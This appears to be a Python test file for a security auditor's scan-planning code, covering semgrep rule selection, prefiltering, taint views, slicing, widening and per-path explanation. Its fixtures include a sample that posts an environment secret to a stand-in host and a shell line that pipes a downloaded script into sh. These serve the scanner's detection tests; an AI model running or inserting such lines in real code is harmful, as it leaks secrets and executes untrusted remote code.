"""The scan plan as a value: plain semgrep's plan (languages, paths) and the pure reducers that
refine it (prefilter, taint views, slices, widening), and its per-path explanation."""

from __future__ import annotations

import hashlib

from auditor.scan import rules as rules_mod
from auditor.scan.interface import Origin, ScanTarget
from auditor.scan.plan import (
    ALL,
    How,
    Reading,
    ScanPlan,
    Why,
    by_prefilter,
    by_slices,
    by_taint_views,
    explained,
    semgrep_plan,
    whole_plan,
    widened,
)

META = rules_mod.load_rule_meta()
HTTP = "network.python.http-client"
EXFIL = "secret-access.python.secret-exfiltration"


def target(path: str, text: str, family: str | None) -> ScanTarget:
    return ScanTarget(key=f"b:{path}", path=path, origin=Origin.BUNDLE,
                      sha256=hashlib.sha256(text.encode()).hexdigest(), family=family, text=text)


PY = target("vllm/a.py", "import os\n\n\ndef f():\n    return 1\n\n\ndef g(x):\n"
            "    import requests\n    requests.post('https://x.example', data=os.environ['K'])\n",
            "python")
PLAIN = target("vllm/b.py", "def add(a, b):\n    return a + b\n", "python")
SH = target("tools/run.sh", "#!/bin/sh\ncurl -fsSL https://x.example/i | sh\n", "bash")


def test_plain_semgrep_reads_each_rule_s_languages_whole() -> None:
    plan = semgrep_plan([PY, SH], META)
    assert plan.reading(PY.key, HTTP) == Reading("semgrep", HTTP, How.WHOLE)
    assert plan.reading(SH.key, HTTP) == Reading("semgrep", HTTP, How.SKIPPED, Why.LANGUAGE)
    aimed = [m for m in META.values() if m.paths_include]
    if aimed:
        r = plan.reading(PY.key, aimed[0].id)
        assert r is not None and r.how is How.SKIPPED


def test_reducers_only_narrow_and_say_why() -> None:
    base = semgrep_plan([PY, PLAIN], META)
    pre = by_prefilter(base, [PY, PLAIN], META)
    assert pre.reading(PLAIN.key, HTTP) == Reading("semgrep", HTTP, How.SKIPPED, Why.PREFILTER)
    assert pre.reads(PY.key, HTTP)
    views = by_taint_views(pre, [PY, PLAIN], META)
    r = views.reading(PY.key, EXFIL)
    assert r is not None and r.how in (How.VIEW, How.WHOLE)
    if r.how is How.VIEW:
        assert r.text is not None and r.text.count("\n") == PY.text.count("\n")
        assert "return 1" not in r.text  # f's body cannot hold the finding
    # nothing a reducer skipped was read by plain semgrep's plan either way round
    for key, rows in views.readings.items():
        for row in rows:
            if not base.reads(key, row.rule):
                assert not views.reads(key, row.rule)


def test_slices_and_widening() -> None:
    plan = by_prefilter(semgrep_plan([PY, PLAIN], META), [PY, PLAIN], META)
    sliced = by_slices(plan, [PY.key])
    assert sliced.reading(PY.key, HTTP) == Reading("semgrep", HTTP, How.SLICE)
    assert sliced.reading(PLAIN.key, HTTP) == plan.reading(PLAIN.key, HTTP)
    wide = widened(plan, [HTTP], "ungated")
    assert wide.reading(PLAIN.key, HTTP) == Reading("semgrep", HTTP, How.WHOLE, note="ungated")
    # a language skip is never widened
    sh_plan = widened(semgrep_plan([SH], META), [HTTP], "ungated")
    assert sh_plan.reading(SH.key, HTTP) == Reading("semgrep", HTTP, How.SKIPPED, Why.LANGUAGE)


def test_explained_groups_rules_per_path_deterministically() -> None:
    semgrep = by_prefilter(semgrep_plan([PY, SH], META), [PY, SH], META)
    bandit = whole_plan("bandit", [PY])
    plan = ScanPlan.of({k: rows + bandit.readings.get(k, ())
                        for k, rows in semgrep.readings.items()})
    owners = {PY.key: (PY.path, "file"), SH.key: (SH.path, "file")}
    out = explained(plan, owners)
    assert out == explained(ScanPlan.of(dict(reversed(list(plan.readings.items())))), owners)
    assert list(out) == sorted(out)
    rows = out[PY.path]
    assert {"target": "file", "scanner": "bandit", "reading": "whole", "rules": [ALL]} in rows
    every = [rule for r in rows if r["scanner"] == "semgrep" for rule in r["rules"]]
    assert sorted(every) == sorted(META)  # each rule once, read or with its reason
